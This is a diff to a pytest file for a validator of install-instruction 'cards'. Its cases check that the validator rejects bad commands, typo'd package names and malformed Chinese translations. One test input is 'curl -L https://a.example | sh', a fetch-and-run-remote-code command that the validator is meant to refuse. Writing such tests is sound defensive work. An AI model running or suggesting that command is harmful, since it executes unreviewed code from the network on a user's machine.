@@ -35,10 +35,20 @@ def test_a_name_that_others_have_is_refused(tmp_path, names, message):
 @pytest.mark.parametrize(
     ("fact", "message"),
     [
-        ("{command: 'curl -L https://a.example | sh', source: issues/1}", "install: a command that runs what nobody"),
-        ("{command: 'get <NAME>', source: issues/1}", "install: 'get <NAME>': write what the reader fills in"),
-        ("{do: Install it, source: issues/1, zh: {do: 安装。}}", "install: 'Install it' is no sentence"),
-        ("{command: a, if: if you can, source: issues/1, zh: {if: 可以}}", "install: 'if you can': `if` holds the"),
+        (
+            "{command: 'curl -L https://a.example | sh', brings: [a], source: issues/1}",
+            "install: a command that runs what nobody",
+        ),
+        (
+            "{command: 'get <NAME>', brings: [a], source: issues/1}",
+            "install: 'get <NAME>': write what the reader fills in",
+        ),
+        ("{command: a, source: issues/1}", "install: no paste gets this row: name in `brings`"),
+        ("{do: Install it, brings: [a], source: issues/1, zh: {do: 安装。}}", "install: 'Install it' is no sentence"),
+        (
+            "{command: a, if: if you can, brings: [a], source: issues/1, zh: {if: 可以}}",
+            "install: 'if you can': `if` holds the",
+        ),
     ],
 )
 def test_a_row_that_readers_should_not_see_is_refused(tmp_path, fact, message):
@@ -97,10 +107,16 @@ def test_a_message_that_another_project_prints_is_told_with_an_example(tmp_path,
     ("fact", "told"),
     [
         ("install: [{command: pip install celar-wine, brings: [cellar], source: issues/1}]", "'celar-wine'"),
-        ("install: [{command: pip instal cellar, source: issues/1}]", "did you mean 'install'?"),
-        ("install: [{command: python -m troch.hub, source: issues/1}]", "did you mean 'torch'?"),
-        ("install: [{command: 'torch.load(x, weights_onyl=False)', source: issues/1}]", "did you mean 'weights_only'?"),
-        ("install: [{command: pip install transformers==4.83.2, source: issues/1}]", "has no release 4.83.2"),
+        ("install: [{brings: [a], command: pip instal cellar, source: issues/1}]", "did you mean 'install'?"),
+        ("install: [{brings: [a], command: python -m troch.hub, source: issues/1}]", "did you mean 'torch'?"),
+        (
+            "install: [{brings: [a], command: 'torch.load(x, weights_onyl=False)', source: issues/1}]",
+            "did you mean 'weights_only'?",
+        ),
+        (
+            "install: [{brings: [a], command: pip install transformers==4.83.2, source: issues/1}]",
+            "has no release 4.83.2",
+        ),
         ("partners: [{package: numpy, needs: '>=1.17,<11.3', source: issues/1}]", "numpy has no release 11.3"),
         ("install: [{command: pip install cellar, brings: [celar], source: issues/1}]", "did you mean 'cellar', which"),
         ("partners: [{package: albumentatons, needs: '>=1', source: issues/1}]", "did you mean 'albumentations'?"),
@@ -116,8 +132,8 @@ def test_a_package_that_nothing_knows_is_told(tmp_path, fact, told):
     "fact",
     [
         "install: [{command: pip install cellar_wine, brings: [cellar_wine], source: issues/1}]",
-        "install: [{command: pip install celar-wine, do: Install `celar-wine`., source: issues/1, zh: {do: 安装。}}]",
-        "install: [{command: pip install celar-wine, source: 'README.md#pip-install-celar-wine'}]",
+        "install: [{brings: [a], command: pip install celar-wine, do: Install `celar-wine`., source: issues/1, zh: {do: 安装。}}]",
+        "install: [{brings: [a], command: pip install celar-wine, source: 'README.md#pip-install-celar-wine'}]",
         "partners: [{package: Cellar, needs: '>=1', source: issues/1}]",
         "partners: [{with: a glass, needs: a stem, when: paste has *shards*, source: issues/1}]",
     ],
@@ -139,7 +155,7 @@ def test_a_sound_card_has_no_problems(tmp_path):
     ],
 )
 def test_its_chinese_has_chinese_stops_and_the_releases_of_the_english(tmp_path, chinese, message):
-    said = messages(tmp_path, f"install:\n  - {{do: Run 2.1., source: issues/1, zh: {{do: {chinese}}}}}\n")
+    said = messages(tmp_path, f"install:\n  - {{do: Run 2.1., brings: [a], source: issues/1, zh: {{do: {chinese}}}}}\n")
 
     assert said[:1] == ([message] if message else [])
 
@@ -154,20 +170,35 @@ def test_a_day_to_come_is_told(tmp_path, day, is_told):
 @pytest.mark.parametrize(
     ("fact", "told"),
     [
-        ("install: [{command: $ cellar, source: issues/1}]", "the command '$ cellar' begins with a prompt"),
         (
-            "install: [{command: a, when: project is kettel, source: issues/1}]",
+            "install: [{command: $ cellar, brings: [a], source: issues/1}]",
+            "the command '$ cellar' begins with a prompt",
+        ),
+        (
+            "install: [{command: a, brings: [a], when: project is kettel, source: issues/1}]",
             "no card 'kettel': did you mean 'kettle'?",
         ),
-        ("install: [{command: a, when: stack has */celar/*, source: issues/1}]", "'celar': did you mean 'cellar'?"),
-        ("install: [{command: a, when: paste has wine, source: issues/1}]", "'wine' fits a whole line alone"),
-        ("logs: [{where: the folder in which it runs, source: issues/1}]", "where is 'the folder in which it runs'"),
-        ("install: [{command: a, do: Go., source: issues/1, zh: {do: 走}}]", "zh: '走' ends without a stop"),
         (
-            "install: [{command: a, if: you go, source: issues/1, zh: {if: 如果走}}]",
+            "install: [{command: a, brings: [a], when: stack has */celar/*, source: issues/1}]",
+            "'celar': did you mean 'cellar'?",
+        ),
+        (
+            "install: [{command: a, brings: [a], when: paste has wine, source: issues/1}]",
+            "'wine' fits a whole line alone",
+        ),
+        ("logs: [{where: the folder in which it runs, source: issues/1}]", "where is 'the folder in which it runs'"),
+        (
+            "install: [{command: a, brings: [a], do: Go., source: issues/1, zh: {do: 走}}]",
+            "zh: '走' ends without a stop",
+        ),
+        (
+            "install: [{command: a, brings: [a], if: you go, source: issues/1, zh: {if: 如果走}}]",
             "zh: '如果走': `if` holds the clause",
         ),
-        ("install: [{command: a, if: you go, source: issues/1, zh: {if: 走。}}]", "zh: '走。': `if` holds the clause"),
+        (
+            "install: [{command: a, brings: [a], if: you go, source: issues/1, zh: {if: 走。}}]",
+            "zh: '走。': `if` holds the clause",
+        ),
         ("partners: [{package: torch, needs: '>=2.6,<2.1', source: issues/1}]", "no release of torch is “<2.1,>=2.6”"),
         (
             "partners: [{package: numpy, needs: '>=1', source: issues/1}, {package: numpy, needs: '>=2', source: issues/1}]",
@@ -185,7 +216,7 @@ def test_what_no_reader_gets_or_can_use_is_told(tmp_path, fact, told):
 @pytest.mark.parametrize(
     "fact",
     [
-        "install: [{command: a, when: [project is kettle | cellar, stack has */cellar/*], source: issues/1}]",
+        "install: [{command: a, brings: [a], when: [project is kettle | cellar, stack has */cellar/*], source: issues/1}]",
         "logs: [{where: 'OUTPUT/the-run/train*.log', source: issues/1}]",
         "partners: [{package: numpy, needs: '>=1', release: '<2', source: issues/1}, "
         "{package: numpy, needs: '>=2', release: '>=2', source: issues/1}]",
